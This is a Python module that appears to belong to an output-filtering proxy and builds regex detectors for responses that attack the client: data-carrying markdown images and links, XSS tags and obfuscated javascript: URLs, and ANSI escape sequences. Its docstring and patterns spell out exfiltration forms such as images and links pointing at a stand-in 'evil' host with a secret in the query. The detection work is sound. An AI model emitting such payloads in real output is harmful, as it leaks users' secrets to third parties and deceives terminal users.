r"""Output that attacks the client rather than leaking a value (SECURITY_TESTS I9).

- markdown_image: `![x](https://evil/?q=<secret>)` makes the client's renderer send
  data to a third party with no click; also raw `<img src=...>`. Hosts on the
  policy's allowlist pass.
- ansi: terminal escape sequences (CSI, OSC hyperlinks/title, 8-bit C1) that can
  rewrite what a terminal user sees. The default marker for these is "" (strip).
- markdown_link: a link that carries data to a host not on the allowlist: an inline
  link `[x](https://evil/?q=<secret>)`, a reference definition `[id]: https://evil/#<secret>`
  (which also serves reference-style images `![x][id]`) or an autolink `<https://evil/?q=...>`,
  whose URL carries data (a query or a fragment). One click sends it; links without data, relative
  links and allowlisted hosts pass. Also "data": a `key=value` in the path or a path
  segment of 32+ characters; and a link to a javascript:/vbscript:/data:text/html URL goes whole.
  Bare URLs in prose are not judged, nor the outer link around an image (`[![a](img)](url)`:
  the image is judged as an image).
- xss: active markup a client that renders HTML would run: script/iframe/object/embed/
  svg/math/style/meta/base/form/link/frame tags, any tag with an on*= handler, and
  javascript:/vbscript: or data:text/html URLs (in a link or anywhere), also written with HTML
  character references (`&#106;avascript:`, `&#x6A;`, `&#0000106`, `javascript&colon;`,
  `jav&#x09;ascript:`), which an HTML or CommonMark renderer decodes in an attribute or a link
  destination (a browser also drops tabs and line breaks in a URL). Only text with a `&` is decoded:
  the `&` is the anchor, so clean text without one costs nothing more.

Link and image URLs are read the way the renderer reads them: character references decoded
(only when the URL holds a `&`), tabs and line breaks dropped, leading spaces and control
characters stripped, before the scheme and the host are judged.
- ansi_text: escape sequences written as text (`\x1b[31m`, `\u001b[`, `\033[`, `\e[`, and
  `\x1b]`/`\u001b]` OSC), which a client that unescapes text (echo -e, printf, a JSON or
  Python string literal) turns into real ones.
"""

from __future__ import annotations

import html
import re
from typing import Iterable
from urllib.parse import urlsplit

import regex

from proxy.leak.pattern import Alternative, Check, PatternDetector

_MD_IMAGE = (r"!\[[^\]\n]{0,512}\]\(\s{0,8}<?(?P<url>[^)\s>]{1,2048})>?"
             r"(?:\s{1,8}(?:\"[^\"\n]{0,256}\"|'[^'\n]{0,256}'))?\s{0,8}\)")
_HTML_IMAGE = r"(?i:<img\b[^>]{0,2048}>)"
_HTML_SRC = regex.compile(r"""(?i)\bsrc\s*=\s*["']?([^"'\s>]+)""")

_ANSI = (
    # OSC: title, hyperlinks; unterminated, only the introducer and its numeric parameters
    ("osc", r"\x1b\](?:[^\x07\x1b\x9c]{0,4096}(?:\x07|\x1b\\|\x9c)|[0-9;]{0,16})", 4100, ("\x1b]",)),
    ("csi", r"(?:\x1b\[|\x9b)[0-?]{0,64}[ -/]{0,8}[@-~]?", 80, ("\x1b[", "\x9b")),  # CSI: colours, cursor moves, erase
    ("esc", r"\x1b(?![\[\]])[ -/]{0,8}[0-~]?|[\x80-\x9f]", 10, ("\x1b",) + tuple(chr(c) for c in range(0x80, 0xA0))),  # C1 too
)


_URL_DROP = str.maketrans("", "", "\t\n\r")


def rendered_url(url: str) -> str:
    """A link or image URL as the renderer reads it: character references decoded (only if the URL
    has a `&`), ASCII tabs and line breaks dropped, leading C0 controls and spaces stripped."""
    if "&" in url:
        url = html.unescape(url)
    return url.translate(_URL_DROP).lstrip("".join(map(chr, range(0x21))))


def _host(url: str) -> str:
    try:
        return (urlsplit(url if "//" in url else "//" + url).hostname or "").lower()
    except ValueError:
        return ""


def image_alternatives(allow_hosts: Iterable[str] = ()) -> tuple[list[Alternative], dict[str, Check]]:
    allowed = frozenset(h.lower() for h in allow_hosts)

    def external(url: str) -> bool:
        if not url:
            return True  # an <img> without a readable src: fail closed
        low = url.lower()
        if low.startswith("data:") or (not low.startswith(("http:", "https:", "//")) and ":" not in low.split("/")[0]):
            return False  # inline data or a relative path: nothing leaves the client
        host = _host(url)
        return not host or (host not in allowed and not any(host.endswith("." + a) for a in allowed))

    def markdown(m) -> bool:
        return external(rendered_url(m.group("url")))

    def html_img(m) -> bool:
        src = _HTML_SRC.search(m.group())
        return external(rendered_url(src.group(1)) if src else "")

    alts = [Alternative("markdown_image__markdown_image", "markdown_image", "markdown_image", _MD_IMAGE, 512 + 2048 + 300, ("![",), False),
            Alternative("markdown_image__html_image", "markdown_image", "html_image", _HTML_IMAGE, 2100, ("<img",), False)]
    return alts, {alts[0].group: markdown, alts[1].group: html_img}


_URL = r"(?P<url>[^)\s>]{1,2048})"
# Link text without "[": an image inside a link is markdown_image's.
_MD_LINK = (r"(?<!!)\[[^\[\]\n]{0,512}\]\(\s{0,8}<?" + _URL + r">?(?:\s{1,8}(?:\"[^\"\n]{0,256}\"|'[^'\n]{0,256}'))?\s{0,8}\)"
            r"|(?m:(?<=^[ \t]{0,3}))\[[^\]\n]{1,512}\]:[ \t]{0,8}<?(?P<ref>[^\s>]{1,2048})>?"
            r"|<(?P<auto>(?i:https?)://[^\s>]{1,2048})>")
_XSS_TAGS = "script|iframe|frame|frameset|object|embed|applet|svg|math|style|meta|base|form|link|template|portal"
_XSS = (r"(?i:<\s{0,4}/?\s{0,4}(?:" + _XSS_TAGS + r")(?![a-z0-9-])[^>]{0,2048}>?"
        # no look-behind here: `regex` partial matching (the hold-back) does not see through one
        r"|<[a-z][a-z0-9-]{0,30}(?:[\s/][^>]{0,2048}?)?[\s/\"']on[a-z]{3,30}\s{0,8}=[^>]{0,2048}>?)")
_XSS_URL = r"(?i:(?<![a-z0-9])(?:java|vb)script\s{0,8}:|(?<![a-z0-9])data\s{0,4}:\s{0,4}text/html)"
_ANSI_TEXT = (r"(?i:\\(?:x9[bd]|u009[bd])[0-?;]{0,64}[ -/]{0,8}[@-~]?|\\(?:x1b|u001b|u\{1b\}|0?33|27|e)(?:\[[0-?]{0,64}[ -/]{0,8}[@-~]?|\][^\n]{0,512}?(?:\\a|\\x07|\\u0007|\\x1b\\\\|\\033\\\\|$)))")


def link_alternatives(allow_hosts: Iterable[str] = ()) -> tuple[list[Alternative], dict[str, Check]]:
    """Links whose URL carries data (a query or a fragment) to a host not on the allowlist."""
    allowed = frozenset(h.lower() for h in allow_hosts)

    def carries_data(m) -> bool:
        url = rendered_url(m.group("url") or m.group("ref") or m.group("auto") or "")
        low = url.lower()
        if low.replace(" ", "").startswith(("javascript:", "vbscript:", "data:text/html")):
            return True  # the whole link goes (xss also marks the scheme)
        if not low.startswith(("http:", "https:", "//")):
            return False  # relative, mailto:, anchors
        host = _host(url)
        if host and (host in allowed or any(host.endswith("." + a) for a in allowed)):
            return False
        rest = url.split("?", 1)[1] if "?" in url else ""
        frag = url.split("#", 1)[1] if "#" in url else ""
        after_scheme = url.split("//", 1)[-1]
        path = after_scheme.split("/", 1)[1] if "/" in after_scheme else ""
        path = path.split("?", 1)[0].split("#", 1)[0]
        # data in a query, a fragment, a key=value in the path, or a long opaque path segment
        return bool(rest.strip("&=") or frag or "=" in path or any(len(seg) >= 32 for seg in path.split("/")))

    alts = [Alternative("markdown_link__markdown_link", "markdown_link", "markdown_link", _MD_LINK, 512 + 2048 + 300,
                        ("[", "<http"), False)]
    return alts, {alts[0].group: carries_data}


# A scheme written with character references, matched from its first "&" (the anchor: text without
# one costs nothing more). Each character of the scheme may be itself or a reference to it (decimal
# or hex, up to 32 leading zeros, ";" optional as browsers allow; ":" "/" "." also by name), with
# tabs and line breaks between (raw or as references: a browser drops them); the letters before the
# first "&" must be the scheme's beginning at a word start (look-behind: they are complete text).
_ZEROS = "0{0,32}"
_WS = r"(?:[\t\n\r]|&Tab;|&NewLine;|&#" + _ZEROS + r"(?:9|1[03]);?|&#x" + _ZEROS + r"[9ad];?){0,4}"
_NAMED = {":": "colon", "/": "sol", ".": "period"}


def _ref(c: str) -> str:
    code = ord(c.lower())
    alts = [f"&#{_ZEROS}{code};?", f"&#x{_ZEROS}{code:x};?"]
    if c.isalpha():  # the upper-case letter's reference too (the scheme is case-insensitive)
        alts += [f"&#{_ZEROS}{ord(c.upper())};?", f"&#x{_ZEROS}{ord(c.upper()):x};?"]
    if c in _NAMED:
        alts.append(f"&{_NAMED[c]};")
    return "(?:" + "|".join(alts) + ")"


def _scheme_refs(scheme: str) -> str:
    parts = []
    for i in range(len(scheme)):
        before = r"[\t\n\r]{0,4}".join(re.escape(c) for c in scheme[:i])
        rest = "".join(_WS + "(?:" + re.escape(c) + "|" + _ref(c) + ")" for c in scheme[i + 1:])
        # the first "&" is a reference to scheme[i], or a tab/line break reference before it
        first = "(?:" + _ref(scheme[i]) + "|" + r"(?=&)" + _WS + "(?:" + re.escape(scheme[i]) + "|" + _ref(scheme[i]) + "))"
        parts.append(r"(?<=(?:^|[^a-z0-9+.\-])" + before + ")" + r"(?=&)" + first + rest)
    return "|".join(parts)


_ENTITY_URL = "(?i:" + "|".join(_scheme_refs(s) for s in ("javascript:", "vbscript:", "data:text/html")) + ")"
_ENTITY_MAX = 14 * (5 * 40)


def xss_alternatives() -> list[Alternative]:
    # Tags anchor on "<" anywhere; script URLs on their scheme at a word start (fewer hold-backs);
    # schemes written with character references on their "&".
    return [Alternative("xss__markup", "xss", "markup", _XSS, 4200, ("<",), False),
            Alternative("xss__script_url", "xss", "script_url", _XSS_URL, 40, ("javascript", "vbscript", "data"), True),
            Alternative("xss__entity_url", "xss", "script_url", _ENTITY_URL, _ENTITY_MAX, ("&",), False)]


def ansi_text_alternatives() -> list[Alternative]:
    return [Alternative("ansi_text__ansi_text", "ansi_text", "ansi_text", _ANSI_TEXT, 600,
                        ("\\x1b", "\\u001b", "\\u{1b}", "\\033", "\\33", "\\27", "\\e", "\\x9b", "\\x9d", "\\u009b",
                         "\\u009d"), False)]


def ansi_alternatives() -> list[Alternative]:
    return [Alternative(f"ansi__{kind}", "ansi", kind, src, max_len, anchors, False) for kind, src, max_len, anchors in _ANSI]


def image_detector(allow_hosts: Iterable[str] = ()) -> PatternDetector:
    alts, checks = image_alternatives(allow_hosts)
    return PatternDetector(alts, checks)


def ansi_detector() -> PatternDetector:
    return PatternDetector(ansi_alternatives())
